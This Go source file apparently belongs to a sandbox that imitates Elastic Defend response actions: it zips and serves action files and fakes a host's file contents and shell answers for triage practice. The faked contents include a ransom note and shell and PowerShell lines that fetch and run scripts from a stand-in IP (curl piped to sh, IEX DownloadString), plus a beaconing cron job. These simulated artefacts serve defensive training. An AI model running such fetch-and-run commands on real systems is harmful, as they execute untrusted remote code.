package sandbox

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"fmt"
	"net/http"
	"slices"
	"sort"
	"strings"
	"time"
)

// The files response actions bring back (get-file, execute's full output,
// third-party agents' script and process output), served by the file info
// and download routes, and what a host's files and shell answer.

// epAddFile zips members into a file of an action for one agent. Its id is
// {action_id}.{agent_id} for Elastic Defend, the agent id otherwise.
func (k *Kibana) epAddFile(a *epAction, agentID, name string, members map[string][]byte, at time.Time) *epFile {
	id := agentID
	if a.agentType == "endpoint" {
		id = a.id + "." + agentID
	}
	f := &epFile{id: id, agentID: agentID, name: name, data: epZip(members, at), created: at}
	if a.files == nil {
		a.files = map[string]*epFile{}
	}
	a.files[id] = f
	return f
}

// epZip makes a zip archive of members, in name order.
func epZip(members map[string][]byte, at time.Time) []byte {
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	names := make([]string, 0, len(members))
	for name := range members {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		fw, err := w.CreateHeader(&zip.FileHeader{Name: name, Method: zip.Deflate, Modified: at.UTC()})
		if err == nil {
			fw.Write(members[name])
		}
	}
	w.Close()
	return buf.Bytes()
}

// epFileFor finds the file a request names: the action (404), whether the
// action's command brings back files (400), which agent the file id
// denotes (404). The file is nil while the action is pending.
func (k *Kibana) epFileFor(c *call) (*epAction, *epFile, bool) {
	k.epTick(c.space, true)
	actionID, fileID := c.param("action_id"), c.param("file_id")
	a := c.space.endpoint.actions[actionID]
	if a == nil {
		epNotFound(c, actionID)
		return nil, nil, false
	}
	if !slices.Contains(epFileAccess[a.command], a.agentType) {
		c.badRequest(fmt.Sprintf("Response action [%s] for agent type [%s] does not support file downloads", a.command, a.agentType))
		return nil, nil, false
	}
	owner := ""
	for _, agentID := range a.agents {
		if fileID == agentID && a.agentType != "endpoint" || fileID == a.id+"."+agentID && a.agentType == "endpoint" {
			owner = agentID
		}
	}
	f := a.files[fileID]
	if owner == "" || (a.completed && f == nil) {
		c.notFound(fmt.Sprintf("File with id [%s] not found", fileID))
		return nil, nil, false
	}
	return a, f, true
}

// endpointFileInfo answers a file's metadata.
func (k *Kibana) endpointFileInfo(c *call) {
	a, f, ok := k.epFileFor(c)
	if !ok {
		return
	}
	fileID := c.param("file_id")
	agentID := fileID
	if a.agentType == "endpoint" {
		agentID = strings.TrimPrefix(fileID, a.id+".")
	}
	info := map[string]any{"id": fileID, "actionId": a.id, "agentId": agentID, "agentType": a.agentType,
		"mimeType": "application/zip", "status": "AWAITING_UPLOAD", "name": "", "size": 0, "created": epStamp(a.startedAt)}
	if f != nil {
		info["status"], info["name"], info["size"], info["created"] = "READY", f.name, len(f.data), epStamp(f.created)
	}
	c.ok(map[string]any{"data": info})
}

// endpointFileDownload answers the file itself, as an attachment.
func (k *Kibana) endpointFileDownload(c *call) {
	_, f, ok := k.epFileFor(c)
	if !ok {
		return
	}
	if f == nil {
		c.notFound(fmt.Sprintf("File with id [%s] is not ready for download yet (AWAITING_UPLOAD)", c.param("file_id")))
		return
	}
	c.answered = true
	h := c.w.Header()
	h.Set("Content-Type", "application/zip")
	h.Set("Content-Disposition", fmt.Sprintf(`attachment; filename="%s"`, f.name))
	h.Set("Cache-Control", "max-age=31536000, immutable")
	h.Set("X-Content-Type-Options", "nosniff")
	c.w.WriteHeader(http.StatusOK)
	c.w.Write(f.data)
}

// epFileContent is what a file on a host holds: made up from its path, the
// same every time.
func epFileContent(h *epHost, path string) []byte {
	name := strings.ToLower(epBaseName(path))
	ext := ""
	if i := strings.LastIndex(name, "."); i >= 0 {
		ext = name[i:]
	}
	switch {
	case strings.HasPrefix(name, "readme_restore"):
		return []byte("YOUR FILES ARE ENCRYPTED\r\n\r\nAll documents on this server were encrypted with a strong algorithm.\r\n" +
			"To restore them, contact us at restore-helpdesk@onionmail.example within 72 hours.\r\nYour ID: " + h.agentID[:8] + "\r\n")
	case ext == ".sh":
		return []byte("#!/bin/sh\n# " + path + " on " + h.name + "\ncd /tmp && curl -fsSL http://198.51.100.77/x.sh | sh\nrm -- \"$0\"\n")
	case ext == ".ps1":
		return []byte("# " + path + "\r\n$wc = New-Object Net.WebClient\r\nIEX $wc.DownloadString('http://198.51.100.77/a.ps1')\r\n")
	case slices.Contains([]string{".txt", ".log", ".conf", ".cfg", ".ini", ".csv", ".json", ".xml", ".yml", ".yaml"}, ext):
		return []byte(fmt.Sprintf("# %s on %s\nrecorded=2024-05-02T03:12:00Z\nowner=%s\n", path, h.name, map[bool]string{true: "SYSTEM", false: "root"}[h.os == "windows"]))
	}
	var magic []byte
	switch {
	case slices.Contains([]string{".exe", ".dll", ".sys", ".scr"}, ext):
		magic = []byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff")
	case slices.Contains([]string{".docm", ".docx", ".xlsm", ".xlsx", ".zip", ".jar"}, ext):
		magic = []byte("PK\x03\x04\x14\x00\x06\x00")
	case ext == "" && h.os == "linux":
		magic = []byte("\x7fELF\x02\x01\x01\x00")
	}
	data := append([]byte{}, magic...)
	block := sha256.Sum256([]byte(h.agentID + "|" + path))
	for len(data) < 4096 {
		block = sha256.Sum256(block[:])
		data = append(data, block[:]...)
	}
	return data
}

// epShellResult is what a command run by execute printed.
type epShellResult struct {
	stdout, stderr string
	code           int
	shell, cwd     string
}

// epShell runs a command line on a host, as far as the sandbox knows the
// commands: a few that triage uses, with the host's own answers.
func epShell(h *epHost, line string) epShellResult {
	fields := strings.Fields(line)
	cmd := ""
	if len(fields) > 0 {
		cmd = strings.ToLower(fields[0])
	}
	if h.os == "windows" {
		out := epShellResult{shell: "cmd", cwd: `C:\Windows\system32`}
		switch cmd {
		case "whoami":
			out.stdout = "nt authority\\system\r\n"
		case "hostname":
			out.stdout = strings.ToUpper(h.name) + "\r\n"
		case "ipconfig":
			out.stdout = fmt.Sprintf("\r\nWindows IP Configuration\r\n\r\nEthernet adapter Ethernet0:\r\n\r\n   IPv4 Address. . . . . . . . . . . : %s\r\n   Subnet Mask . . . . . . . . . . . : 255.255.255.0\r\n   DNS Servers . . . . . . . . . . . : %s\r\n", h.ip, h.resolver)
		case "tasklist":
			var b strings.Builder
			b.WriteString("\r\nImage Name                     PID User\r\n========================= ======== ================\r\n")
			for _, p := range h.procs {
				fmt.Fprintf(&b, "%-25s %8d %s\r\n", epProcessName(p.command), p.pid, p.user)
			}
			out.stdout = b.String()
		case "netstat":
			out.stdout = fmt.Sprintf("\r\nActive Connections\r\n\r\n  Proto  Local Address          Foreign Address        State           PID\r\n  TCP    %s:445        10.20.4.11:51532       ESTABLISHED     4\r\n  TCP    %s:49733      198.51.100.77:80       ESTABLISHED     4321\r\n", h.ip, h.ip)
		case "dir":
			out.stdout = " Volume in drive C has no label.\r\n\r\n Directory of C:\\Windows\\system32\r\n\r\n05/02/2024  03:12 AM    <DIR>          .\r\n               0 File(s)              0 bytes\r\n"
		case "echo":
			out.stdout = strings.TrimSpace(strings.TrimPrefix(strings.TrimSpace(line), fields[0])) + "\r\n"
		default:
			out.stderr = fmt.Sprintf("'%s' is not recognized as an internal or external command,\r\noperable program or batch file.\r\n", epFirst(fields))
			out.code = 1
		}
		return out
	}
	out := epShellResult{shell: "bash", cwd: "/"}
	switch cmd {
	case "whoami":
		out.stdout = "root\n"
	case "id":
		out.stdout = "uid=0(root) gid=0(root) groups=0(root)\n"
	case "hostname":
		out.stdout = h.name + "\n"
	case "uname":
		out.stdout = fmt.Sprintf("Linux %s 5.15.0-105-generic #115-Ubuntu SMP Mon Apr 15 09:52:04 UTC 2024 x86_64 x86_64 x86_64 GNU/Linux\n", h.name)
	case "cat":
		if len(fields) > 1 && fields[1] == "/etc/resolv.conf" {
			out.stdout = fmt.Sprintf("# Generated by NetworkManager\nsearch corp.example\nnameserver %s\n", h.resolver)
		} else if len(fields) > 1 && fields[1] == "/etc/hostname" {
			out.stdout = h.name + "\n"
		} else {
			out.stderr = fmt.Sprintf("cat: %s: No such file or directory\n", strings.Join(fields[1:], " "))
			out.code = 1
		}
	case "ls":
		dir := "/"
		for _, f := range fields[1:] {
			if !strings.HasPrefix(f, "-") {
				dir = f
			}
		}
		out.stdout = fmt.Sprintf("total 12\ndrwxrwxrwt  4 root root 4096 May  2 03:12 .\ndrwxr-xr-x 19 root root 4096 Jan 14 09:30 ..\n-rwxr-xr-x  1 svc-build svc-build 1184 May  2 03:11 %s\n",
			map[bool]string{true: ".cache-sync.sh", false: "README"}[strings.HasPrefix(dir, "/tmp")])
	case "ps":
		var b strings.Builder
		b.WriteString("USER         PID COMMAND\n")
		for _, p := range h.procs {
			fmt.Fprintf(&b, "%-12s %3d %s\n", p.user, p.pid, p.command)
		}
		out.stdout = b.String()
	case "crontab":
		if h.name == "build-03" {
			out.stdout = "*/5 * * * * /usr/local/bin/telemetry-sync --resolve t1.cdn-sync.net --interval 5 >/dev/null 2>&1\n"
		} else {
			out.stderr, out.code = "no crontab for root\n", 1
		}
	case "ss", "netstat":
		out.stdout = fmt.Sprintf("Netid State  Local Address:Port  Peer Address:Port Process\nudp   ESTAB  %s:41822       %s:53          users:((\"telemetry-sync\",pid=4410,fd=3))\ntcp   LISTEN 0.0.0.0:22          0.0.0.0:*          users:((\"sshd\",pid=812,fd=3))\n", h.ip, h.resolver)
	case "echo":
		out.stdout = strings.TrimSpace(strings.TrimPrefix(strings.TrimSpace(line), fields[0])) + "\n"
	default:
		out.stderr = fmt.Sprintf("bash: line 1: %s: command not found\n", epFirst(fields))
		out.code = 127
	}
	return out
}

func epFirst(fields []string) string {
	if len(fields) == 0 {
		return ""
	}
	return fields[0]
}
